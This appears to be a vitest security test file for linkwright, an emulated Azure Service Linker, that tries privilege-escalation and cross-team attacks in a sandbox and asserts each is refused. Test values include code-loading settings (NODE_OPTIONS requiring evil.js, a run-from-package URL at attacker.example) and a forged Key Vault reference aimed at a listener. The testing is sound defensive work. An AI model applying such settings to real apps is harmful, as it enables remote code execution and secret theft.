// Issue #11, "Why": every attack a least-privilege principal tried against linkwright, each refused (401/403, or 400
// where linkwright's own guards refuse what no caller may ask for), both straight to the function app and through the
// ARM endpoint, with the sandbox's whole state — ARM resources (settings, identities, role assignments, Key Vault
// secrets), database principals and statements — byte-identical before and after.
// The attacker is the seeded `team` principal: Contributor on lw-demo-web, RBAC Administrator on lwdemostorage only.
import net from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { settle, startSecuritySandbox, type Reply, type SecuritySandbox, type Via } from "./support.js";

const OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
const KEY_VAULT_SECRETS_USER = "4633458b-17de-408a-b874-0445c86b69e6";
let s: SecuritySandbox;
let team: string;
let admin: string;
let teamOid: string;
let ids: Record<string, string>;
const linker = (source: string, name: string) => `${source}/providers/Microsoft.ServiceLinker/linkers/${name}`;

beforeAll(async () => {
  s = await startSecuritySandbox();
  ids = s.ids;
  const seed = s.lw.te.emulator.seedResult!;
  teamOid = seed.team.objectId;
  team = await s.armToken(teamOid);
  admin = await s.armToken(s.lw.te.emulator.credentials.admin.objectId);
  // Another team's connection, made by the admin: the target of the read and delete attacks.
  const created = await s.lw.putLinker(ids.functionApp!, "victim", {
    targetService: { type: "AzureResource", id: `${ids.storageAccount}/blobServices/default` }, authInfo: { authType: "systemAssignedIdentity" }, clientType: "nodejs",
  });
  expect(created.status.status).toBe("Succeeded");
}, 120_000);
afterAll(async () => { await s?.stop(); });

/** Runs the request as `team` and asserts it was refused with nothing changed anywhere; returns the reply. */
async function refused(via: Via, method: string, path: string, body: unknown, statuses: number[] = [403]): Promise<Reply> {
  const before = s.state();
  const reply = await s.call(via, team, method, path, body);
  await settle();
  expect(statuses, JSON.stringify(reply.json)).toContain(reply.status);
  expect(reply.json?.error?.code).toBeTruthy();
  const after = s.state();
  if (after !== before) expect(s.lw.diff(JSON.parse(before).arm, JSON.parse(after).arm)).toEqual([]);
  expect(after).toBe(before);
  return reply;
}

/** The refusal names `action` over `scope` (linkwright's 403 lists every missing permission in its details). */
function names(reply: Reply, action: string, scope?: string): void {
  const text = JSON.stringify(reply.json.error).toLowerCase();
  expect(text).toContain(action.toLowerCase());
  if (scope) expect(text).toContain(scope.toLowerCase());
}

describe.each<Via>(["direct", "arm"])("attacks as team, %s", (via) => {
  it("PUT a linker on another team's app: refused, its settings and identity untouched", async () => {
    const r = await refused(via, "PUT", linker(ids.functionApp!, `steal-${via}`), {
      properties: { targetService: { type: "AzureResource", id: `${ids.storageAccount}/blobServices/default` }, authInfo: { authType: "systemAssignedIdentity" }, clientType: "nodejs" },
    });
    names(r, "Microsoft.ServiceLinker/linkers/write", ids.functionApp);
  });

  it("servicePrincipalSecret naming itself with Owner on a key vault: refused; it cannot then assign roles there", async () => {
    const body = (roles: string[]) => ({ properties: {
      targetService: { type: "AzureResource", id: ids.keyVault }, clientType: "nodejs",
      authInfo: { authType: "servicePrincipalSecret", clientId: s.lw.te.emulator.credentials.team!.clientId, principalId: teamOid, secret: "not-a-real-secret-0123456789", roles },
    } });
    await refused(via, "PUT", linker(ids.webApp!, `owner-${via}`), body([`/subscriptions/${s.lw.te.subscriptionId}/providers/Microsoft.Authorization/roleDefinitions/${OWNER}`]), [400, 403]);
    // Even a role the catalogue allows for a vault needs the caller's own right to assign it there.
    const r = await refused(via, "PUT", linker(ids.webApp!, `kvuser-${via}`), body([KEY_VAULT_SECRETS_USER]));
    if (via === "direct" || r.json.error.code === "AuthorizationFailed") names(r, "Microsoft.Authorization/roleAssignments/write", ids.keyVault);
    const assign = await s.call("arm", team, "PUT", `${ids.keyVault}/providers/Microsoft.Authorization/roleAssignments/00000000-0000-0000-0000-00000000beef?api-version=2022-04-01`,
      { properties: { roleDefinitionId: `/subscriptions/${s.lw.te.subscriptionId}/providers/Microsoft.Authorization/roleDefinitions/${OWNER}`, principalId: teamOid } });
    expect(assign.status).toBe(403);
  });

  it("secret auth from its own app to a storage account it cannot read: refused before listKeys; no key in its settings", async () => {
    const r = await refused(via, "PUT", linker(ids.webApp!, `keys-${via}`), { properties: {
      targetService: { type: "AzureResource", id: `${ids.otherStorageAccount}/blobServices/default` }, authInfo: { authType: "secret" }, clientType: "nodejs",
    } });
    names(r, "Microsoft.Storage/storageAccounts/listKeys/action", ids.otherStorageAccount);
  });

  it("another team's user-assigned identity by client id: refused, not attached", async () => {
    const clientId = (s.lw.te.emulator.store.get(ids.userIdentity!)!.properties as { clientId: string }).clientId;
    const r = await refused(via, "PUT", linker(ids.webApp!, `uami-${via}`), { properties: {
      targetService: { type: "AzureResource", id: `${ids.storageAccount}/blobServices/default` }, clientType: "nodejs",
      authInfo: { authType: "userAssignedIdentity", clientId, subscriptionId: s.lw.te.subscriptionId },
    } });
    names(r, "Microsoft.ManagedIdentity/userAssignedIdentities/assign/action", ids.userIdentity);
  });

  it("code-loading settings (NODE_OPTIONS, WEBSITE_RUN_FROM_PACKAGE) into a victim app, or even its own: refused", async () => {
    const props = (extra: Record<string, string>) => ({ properties: {
      targetService: { type: "AzureResource", id: `${ids.storageAccount}/blobServices/default` }, authInfo: { authType: "systemAssignedIdentity" }, clientType: "nodejs",
      configurationInfo: { additionalConfigurations: extra },
    } });
    await refused(via, "PUT", linker(ids.functionApp!, `nodeopts-${via}`), props({ NODE_OPTIONS: "--require /home/site/evil.js" }));
    await refused(via, "PUT", linker(ids.webApp!, `nodeopts-${via}`), props({ NODE_OPTIONS: "--require /home/site/evil.js" }), [400]);
    await refused(via, "PUT", linker(ids.webApp!, `package-${via}`), props({ WEBSITE_RUN_FROM_PACKAGE: "https://attacker.example/app.zip" }), [400]);
  });

  it("a database user on a PostgreSQL database it cannot administer: refused, no statement runs", async () => {
    const r = await refused(via, "PUT", linker(ids.webApp!, `pg-${via}`), { properties: {
      targetService: { type: "AzureResource", id: ids.postgresDatabase }, authInfo: { authType: "systemAssignedIdentity" }, clientType: "nodejs",
    } });
    names(r, "Microsoft.DBforPostgreSQL/flexibleServers/administrators/write");
  });

  it("reading another team's linkers, configurations, health, dry runs and loop findings: refused", async () => {
    const v = linker(ids.functionApp!, "victim");
    await refused(via, "GET", v, undefined);
    await refused(via, "GET", `${ids.functionApp}/providers/Microsoft.ServiceLinker/linkers`, undefined);
    await refused(via, "POST", `${v}/listConfigurations`, undefined);
    await refused(via, "POST", `${v}/generateConfigurations`, undefined);
    await refused(via, "GET", `${ids.functionApp}/providers/Microsoft.ServiceLinker/dryruns`, undefined);
    if (via === "direct") {
      // Extension routes linkwright serves only when called directly (the sandbox's ARM endpoint does not forward them).
      await refused(via, "GET", `${v}/healthHistory`, undefined);
      await refused(via, "GET", `${ids.functionApp}/providers/Microsoft.ServiceLinker/loopFindings`, undefined);
    }
  });

  it("polling another caller's operation: refused; deleting another team's connection: refused, it stays", async () => {
    const validate = await s.call(via, admin, "POST", `${linker(ids.functionApp!, "victim")}/validateLinker`);
    expect(validate.status).toBe(202);
    const statusUrl = new URL(String(validate.headers["azure-asyncoperation"]));
    await refused(via, "GET", statusUrl.pathname + statusUrl.search, undefined);
    expect((await s.poll(admin, statusUrl.toString())).status).toBe("Succeeded");
    await refused(via, "DELETE", linker(ids.functionApp!, "victim"), undefined);
    expect((await s.call(via, admin, "GET", linker(ids.functionApp!, "victim"))).status).toBe(200);
  });
});

describe("detectLoops on the whole subscription", () => {
  it("reports to team only apps whose settings it may list: the seeded loop on another team's app stays hidden", async () => {
    const path = `/subscriptions/${s.lw.te.subscriptionId}/providers/Microsoft.ServiceLinker/detectLoops`;
    const asAdmin = await s.call("direct", admin, "POST", path, {});
    expect(asAdmin.status).toBe(200);
    expect(JSON.stringify(asAdmin.json.findings).toLowerCase()).toContain(ids.functionApp!.toLowerCase());
    const asTeam = await s.call("direct", team, "POST", path, {});
    expect(asTeam.status).toBe(200);
    expect(JSON.stringify(asTeam.json).toLowerCase()).not.toContain(ids.functionApp!.toLowerCase());
    expect(asTeam.json.findings).toEqual([]);
  });

  it("naming another team's app in appIds: refused", async () => {
    const path = `/subscriptions/${s.lw.te.subscriptionId}/providers/Microsoft.ServiceLinker/detectLoops`;
    const r = await s.call("direct", team, "POST", path, { appIds: [ids.functionApp] });
    expect(r.status).toBe(403);
    names(r, "Microsoft.Web/sites/config/list/action", ids.functionApp);
  });
});

describe.each<Via>(["direct", "arm"])("a forged Key Vault reference, %s", (via) => {
  it("a connection whose setting names any host as a vault: validation reads nothing from it", async () => {
    // The listener stands for any host an attacker names: it counts every connection made to it (TLS or not).
    let connections = 0;
    const listener = net.createServer((socket) => { connections++; socket.destroy(); });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const port = (listener.address() as net.AddressInfo).port;
    try {
      // team may connect its own app to the storage account it administers; the extra setting is the lure.
      const name = `forged-${via}`;
      const put = await s.call(via, team, "PUT", linker(ids.webApp!, name), { properties: {
        targetService: { type: "AzureResource", id: `${ids.storageAccount}/blobServices/default` }, authInfo: { authType: "systemAssignedIdentity" }, clientType: "nodejs",
        configurationInfo: { additionalConfigurations: { LURE_SECRET: `@Microsoft.KeyVault(SecretUri=https://127.0.0.1:${port}/secrets/lure/)` } },
      } });
      expect(put.status, JSON.stringify(put.json)).toBe(201);
      const created = await s.poll(team, String(put.headers["azure-asyncoperation"]));
      expect(created.status, JSON.stringify(created)).toBe("Succeeded");
      const validate = await s.call(via, team, "POST", `${linker(ids.webApp!, name)}/validateLinker`);
      expect(validate.status).toBe(202);
      const done = await s.poll(team, String(validate.headers["azure-asyncoperation"]));
      expect(done.status).toBe("Succeeded");
      expect(JSON.stringify(done)).toContain("KeyVaultNotRecognized");
      expect(connections).toBe(0);
      const deleted = await s.call(via, team, "DELETE", linker(ids.webApp!, name));
      expect((await s.poll(team, String(deleted.headers["azure-asyncoperation"]))).status).toBe("Succeeded");
    } finally {
      await new Promise((resolve) => listener.close(resolve));
    }
  });
});
